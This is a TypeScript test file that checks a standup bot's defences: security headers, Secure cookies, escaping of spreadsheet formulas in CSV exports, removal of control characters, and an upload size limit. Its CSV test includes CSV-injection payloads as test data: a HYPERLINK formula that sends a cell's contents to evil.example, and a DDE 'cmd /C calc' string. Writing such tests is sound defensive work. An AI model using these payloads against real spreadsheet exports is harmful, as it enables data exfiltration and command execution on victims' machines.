import { request } from 'node:http';
import { parse } from 'csv-parse/sync';
import { afterEach, describe, expect, it } from 'vitest';
import { handleInbound } from '../../bot/conversations/handleInbound';
import { buildPeople } from '../bench/peopleCsv';
import { TestClock } from '../support/clock';
import { TEAM_CSV, TestApp } from '../support/harness';

// Friday 27 Nov 2026, 16:01 in Shanghai: the W48 standup has just been asked.
const FRIDAY_PROMPT = '2026-11-27T08:01:00Z';
const EMPLOYEE = 'li.lei@example.com';

let apps: TestApp[] = [];
afterEach(async () => {
  for (const a of apps) await a.destroy();
  apps = [];
});

async function start(env: Record<string, string> = {}): Promise<TestApp> {
  const t = await TestApp.start({ clock: new TestClock(FRIDAY_PROMPT), env });
  apps.push(t);
  expect((await t.importPeople(TEAM_CSV)).status).toBe(200);
  return t;
}

const directives = (csp: string | null) => new Map((csp ?? '').split(';').map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]));

describe('security headers', () => {
  it('sends a script-safe CSP, nosniff, no referrer and no HSTS on plain HTTP; /api and /auth are never cached', async () => {
    const t = await start();
    for (const path of ['/', '/api/auth/methods', '/auth/link?token=nope']) {
      const res = await fetch(`${t.url}${path}`, { redirect: 'manual' });
      const csp = directives(res.headers.get('content-security-policy'));
      expect(csp.get('script-src'), path).toEqual(["'self'"]);
      expect(csp.get('style-src'), path).toEqual(["'self'"]);
      expect(csp.get('frame-ancestors'), path).toEqual(["'none'"]);
      expect(csp.get('object-src'), path).toEqual(["'none'"]);
      expect(csp.get('base-uri'), path).toEqual(["'self'"]);
      expect(csp.get('form-action'), path).toEqual(["'self'"]);
      expect(csp.has('upgrade-insecure-requests'), path).toBe(false);
      expect(res.headers.get('x-content-type-options'), path).toBe('nosniff');
      expect(res.headers.get('referrer-policy'), path).toBe('no-referrer');
      expect(res.headers.get('x-frame-options'), path).toBe('DENY');
      expect(res.headers.get('strict-transport-security'), path).toBeNull();
    }
    expect((await t.request('GET', '/api/people')).headers.get('cache-control')).toBe('no-store');
    expect((await fetch(`${t.url}/api/nothing-here`)).headers.get('cache-control')).toBe('no-store');
    const problemPage = await fetch(`${t.url}/auth/link?token=nope`);
    expect(problemPage.headers.get('cache-control')).toBe('no-store');
    // The sign-in problem page has no style attribute (the CSP would drop it) and links its stylesheet instead.
    const html = await problemPage.text();
    expect(html).not.toMatch(/\sstyle=/);
    expect(html).toContain('<link rel="stylesheet" href="/auth/page.css">');
    const css = await fetch(`${t.url}/auth/page.css`);
    expect(css.headers.get('content-type')).toMatch(/^text\/css/);
    expect(await css.text()).toContain('max-width:32rem');
  });

  it('sends HSTS (and upgrades requests) only when browsers come over HTTPS: COOKIE_SECURE=on', async () => {
    const t = await start({ COOKIE_SECURE: 'on' });
    const res = await fetch(`${t.url}/api/auth/methods`);
    expect(res.headers.get('strict-transport-security')).toMatch(/^max-age=\d{7,}/);
    expect(directives(res.headers.get('content-security-policy')).has('upgrade-insecure-requests')).toBe(true);
  });
});

describe('secure cookies', () => {
  const sessionCookie = async (t: TestApp) => (await t.login()).headers.get('set-cookie') ?? '';

  it('are not Secure by default (plain HTTP on localhost)', async () => {
    expect(await sessionCookie(await start())).not.toMatch(/;\s*Secure/i);
  });

  it('are Secure in production behind an https PUBLIC_URL, for the password and the chat-link sign-in', async () => {
    const t = await start({ NODE_ENV: 'production', PUBLIC_URL: 'https://perf.example.com' });
    expect(await sessionCookie(t)).toMatch(/;\s*Secure/i);
    await fetch(`${t.url}/api/auth/chat-link`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ email: EMPLOYEE }) });
    const link = (await t.lastLink(EMPLOYEE))!;
    const opened = await fetch(link.replace(/^https?:\/\/[^/]+/, t.url), { redirect: 'manual' });
    expect(opened.status).toBe(302);
    expect(opened.headers.get('set-cookie')).toMatch(/;\s*Secure/i);
    expect(opened.headers.get('strict-transport-security')).toMatch(/^max-age=/);
  });

  it('stay plain with COOKIE_SECURE=off even in production behind https', async () => {
    expect(await sessionCookie(await start({ COOKIE_SECURE: 'off', NODE_ENV: 'production', PUBLIC_URL: 'https://perf.example.com' }))).not.toMatch(/;\s*Secure/i);
  });
});

describe('progress-log CSV', () => {
  it('opens formulas typed in chat as text: a quote before =, +, -, @ (leading tab and CR included)', async () => {
    const t = await start();
    await t.tick();
    const answers = {
      [EMPLOYEE]: ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+cmd|' /C calc'!A0", '@SUM(A1:A9)'],
      'han.meimei@example.com': ['-2+3', '\t=1+1', '\r=2+2'],
    };
    for (const [email, texts] of Object.entries(answers)) {
      const person = await t.signInAs(email);
      for (const text of texts) expect((await person.request('POST', '/api/local/messages', { employee: email, text })).status).toBe(200);
    }
    const res = await t.request('GET', '/api/progress-log?from=2026-11-23&to=2026-11-29&format=csv&locale=en');
    expect(res.status).toBe(200);
    const rows = parse(await res.text(), { bom: true }) as string[][];
    const cells = (email: string) => rows.find((r) => r[2] === email)!.slice(5, 8);
    expect(cells(EMPLOYEE)).toEqual([`'=HYPERLINK("http://evil.example/?x="&A1,"click")`, `'+1+cmd|' /C calc'!A0`, `'@SUM(A1:A9)`]);
    // Chat answers are trimmed when stored, so the tab and CR are gone by then; what is left still starts with "=".
    expect(cells('han.meimei@example.com')).toEqual([`'-2+3`, `'=1+1`, `'=2+2`]);
    for (const row of rows) for (const cell of row) expect(cell, JSON.stringify(row)).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe('control characters', () => {
  const answersOf = (t: TestApp, email: string) =>
    t.sql<{ answer: string }>(
      `select a.answer from standup_answers a join standup_requests r on r.id = a.request_id join people p on p.id = r.person_id where p.email = ? order by a.question_index`,
      email,
    ).map((a) => a.answer);

  it('are dropped from JSON bodies and from chat text, keeping tabs and line breaks', async () => {
    const t = await start();
    await t.tick();
    const employee = await t.signInAs(EMPLOYEE);
    const typed = 'done\u0000 the\u0007 report\u001b[31m\u007f\u0085\tline one\nline two';
    expect((await employee.request('POST', '/api/local/messages', { employee: EMPLOYEE, text: typed })).status).toBe(200);
    expect(answersOf(t, EMPLOYEE)).toEqual(['done the report[31m\tline one\nline two']);
    const said = t.sql<{ body: string }>(`select m.body from local_messages m join people p on p.id = m.person_id where p.email = ? and m.sender = 'person'`, EMPLOYEE);
    expect(said.map((m) => (JSON.parse(m.body) as { text: string }).text)).toEqual(['done the report[31m\tline one\nline two']);

    // The same from any platform: straight into the one inbound entry, as Slack's or WeCom's receiver would.
    const [{ id }] = t.sql<{ id: number }>(`select id from people where email = 'han.meimei@example.com'`);
    handleInbound(t.app.deps, { platform: 'slack', eventKey: 'Ev-control-1', personId: id, kind: 'text', text: '修复\u0000缺陷\u0001\u009b' });
    expect(answersOf(t, 'han.meimei@example.com')).toEqual(['修复缺陷']);
  });

  it('are dropped from an imported CSV', async () => {
    const t = await start();
    const csv = TEAM_CSV.replace('李雷', '李\u0000雷\u0008');
    expect((await t.importPeople(csv)).status).toBe(200);
    expect(t.sql(`select name from people where email = ?`, EMPLOYEE)).toEqual([{ name: '李雷' }]);
  });
});

/**
 * POSTs a body the server refuses from its Content-Length alone: the 413 arrives while the body is still being
 * sent, and the server then closes the connection, which fetch reports as a failure (a browser shows the answer).
 */
function postEarlyAnswered(t: TestApp, path: string, body: string): Promise<{ status: number; text: string }> {
  return new Promise((resolve, reject) => {
    const req = request(`${t.url}${path}`, { method: 'POST', headers: { cookie: t.cookie, 'x-csrf-token': t.csrf, 'content-type': 'text/csv', 'content-length': Buffer.byteLength(body) } }, (res) => {
      let text = '';
      res.setEncoding('utf8').on('data', (chunk: string) => (text += chunk)).on('end', () => resolve({ status: res.statusCode!, text }));
    });
    req.on('error', (err) => (req.writableFinished ? reject(err) : undefined)); // the server hanging up mid-upload is expected
    req.end(body);
  });
}

describe('import size', () => {
  it('refuses a people CSV over 16 MB with 413 payload_too_large, storing nothing', async () => {
    const t = await start();
    const before = t.sql(`select count(*) as n from people`);
    const { csv } = buildPeople(115_000); // ~17.8 MB
    expect(Buffer.byteLength(csv)).toBeGreaterThan(16 * 1024 * 1024);
    const res = await postEarlyAnswered(t, '/api/people/import', csv);
    expect(res.status).toBe(413);
    const body = JSON.parse(res.text) as { error: { code: string; message: string; details: { limit: number } } };
    expect(body.error.code).toBe('payload_too_large');
    expect(body.error.message).toContain('16 MB');
    expect(body.error.details.limit).toBe(16 * 1024 * 1024);
    expect(t.sql(`select count(*) as n from people`)).toEqual(before);
  });
});
